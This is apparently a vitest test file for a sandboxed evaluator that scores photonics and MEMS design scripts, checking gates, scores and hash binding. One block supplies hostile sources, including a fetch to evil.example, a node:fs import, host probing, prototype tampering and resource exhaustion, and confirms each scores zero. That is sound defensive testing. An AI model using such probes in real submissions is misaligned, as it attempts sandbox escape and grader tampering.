// The spec-to-design evaluator end to end on every task: the reference passes every gate with the
// score the task promises, the starter lands where it should, hostile sources score 0 with their
// reason, and the score is bound to the source's bytes.
import { beforeAll, describe, expect, it } from 'vitest';
import { createNodeSolveContext } from '../../src/adapters/node/photonics-context.ts';
import { nodeSandbox } from '../../src/adapters/sandbox/quickjs-node.ts';
import { EVALUATOR_VERSION, evaluateSource, scoreOf, VerdictSchema, type EvaluatorDeps } from '../../src/core/design/evaluator.ts';
import { sha256Hex } from '../../src/core/hash/sha256.ts';
import { DESIGN_TASKS, designTask } from '../../src/core/design/tasks/index.ts';

let deps: EvaluatorDeps;
beforeAll(async () => {
  deps = { sandbox: nodeSandbox(), solve: await createNodeSolveContext() };
});

describe('reference and starter designs', () => {
  for (const task of DESIGN_TASKS) {
    it(`${task.task_id}: the reference has every gate green and S ${task.family === 'design' ? '≥ 0.5' : '= 0.5'}; the starter runs and scores below it`, async () => {
      const v = await evaluateSource(task, task.reference_source, deps);
      expect(VerdictSchema.parse(v)).toEqual(v);
      expect(v.gates.filter((g) => !g.pass)).toEqual([]);
      expect(v.valid).toBe(true);
      if (task.family === 'design') expect(v.S).toBeGreaterThanOrEqual(0.5);
      else expect(Math.abs(v.S - 0.5)).toBeLessThan(1e-9);
      expect(v.gates.some((g) => g.id === 'resolution-stability' && g.pass)).toBe(true);
      const s = await evaluateSource(task, task.starter_source, deps);
      expect(s.gates.find((g) => g.id === 'source-runs')?.pass).toBe(true);
      expect(s.S).toBeLessThan(v.S);
    });
  }
});

describe('binding and scoring', () => {
  const task = designTask('design-bragg-mirror-1550');

  it('binds the verdict to the SHA-256 of the exact source bytes and the evaluator version', async () => {
    const v = await evaluateSource(task, task.reference_source, deps);
    expect(v.source_sha256).toBe(sha256Hex(task.reference_source));
    expect(v.evaluator_version).toBe(EVALUATOR_VERSION);
    const oneByte = await evaluateSource(task, `${task.reference_source} `, deps);
    expect(oneByte.source_sha256).not.toBe(v.source_sha256);
    expect(oneByte.S).toBe(v.S);
  });

  it('is deterministic: the same source gives the same verdict bytes', async () => {
    const a = await evaluateSource(task, task.reference_source, deps);
    const b = await evaluateSource(task, task.reference_source, deps);
    expect(JSON.stringify(a)).toBe(JSON.stringify(b));
  });

  it('S = 1/(1 + J/c) for a valid design, 0 otherwise', () => {
    expect(scoreOf(true, 1, 1)).toBe(0.5);
    expect(scoreOf(true, 0, 5)).toBe(1);
    expect(scoreOf(false, 0.1, 1)).toBe(0);
    expect(scoreOf(true, null, 1)).toBe(0);
  });
});

describe('hostile and broken sources score 0 with a reason, and nothing else is affected', () => {
  const task = designTask('design-harvester-spectrum');
  const cases: [string, string, RegExp][] = [
    ['fetch', `fetch('https://evil.example/x');`, /runtime .*'fetch' is not defined/],
    // A dynamic import never loads (the engine has no module loader): whatever was to follow it never runs.
    ['import()', `import('node:fs').then((fs) => param('beam_length_mm', fs.size));`, /param\("beam_length_mm", …\) is missing/],
    ['globalThis probing', `if (typeof process !== 'undefined' || typeof require !== 'undefined') param('beam_length_mm', 1); else throw new Error('no host');`, /no host/],
    ['prototype tampering', `Object.defineProperty(Object.prototype, 'valid', { value: true }); JSON.parse = () => ({ valid: true });`, /does not read|missing/],
    ['infinite loop', `for (;;) {}`, /timeout/],
    ['2 GB allocation', `new ArrayBuffer(2 ** 31 - 1);`, /memory/],
    ['huge layout', `for (let i = 0; i < 1e6; i++) rect({ layer: 'core', x: [i, i + 1], y: [0, 1] });`, /layout too large/],
    ['overwriting the API', `param = () => 1;`, /runtime|read-only|missing/],
    ['a syntax error', `param('beam_length_mm' 10);`, /syntax/],
  ];
  for (const [name, source, reason] of cases) {
    it(name, async () => {
      const v = await evaluateSource(task, source, deps);
      expect(v.valid).toBe(false);
      expect(v.S).toBe(0);
      expect(v.J).toBeNull();
      expect(v.gates.filter((g) => !g.pass).map((g) => g.reason).join(' | ')).toMatch(reason);
    });
  }
  it('the evaluator still scores the reference after all of them', async () => {
    const v = await evaluateSource(task, task.reference_source, deps);
    expect(v.valid).toBe(true);
  });
});

describe('design rules name what broke', () => {
  it('a parameter out of range fails its own gate', async () => {
    const task = designTask('design-harvester-spectrum');
    const v = await evaluateSource(task, task.reference_source.replace("param('tip_mass_g', 30)", "param('tip_mass_g', 45)"), deps);
    expect(v.gates.find((g) => g.id === 'param-tip_mass_g')).toMatchObject({ pass: false, value: 45 });
  });
  it('a heater over a trench is floating metal', async () => {
    const task = designTask('design-thermo-optic-phase-shifter');
    const src = `param('heater_length_um', 100); rect({ layer: 'heater', x: [3, 5], y: [2.5, 2.6] }); rect({ layer: 'trench', x: [2.5, 6], y: [-2, 3] });`;
    const v = await evaluateSource(task, src, deps);
    expect(v.gates.find((g) => g.id === 'heater-supported')).toMatchObject({ pass: false, category: 'connectivity' });
  });
  it('a material outside the process fails the stack rule', async () => {
    const task = designTask('design-bragg-mirror-1550');
    const v = await evaluateSource(task, `stack([{ material: 'Au', thickness_nm: 100 }]);`, deps);
    expect(v.gates.find((g) => g.id === 'stack-materials')).toMatchObject({ pass: false });
  });
  it('a call the task does not read is named', async () => {
    const task = designTask('design-bragg-mirror-1550');
    const v = await evaluateSource(task, `${task.reference_source}\nparam('extra', 1);`, deps);
    expect(v.gates.find((g) => g.id === 'design-interface')?.reason).toMatch(/param "extra"/);
  });
});
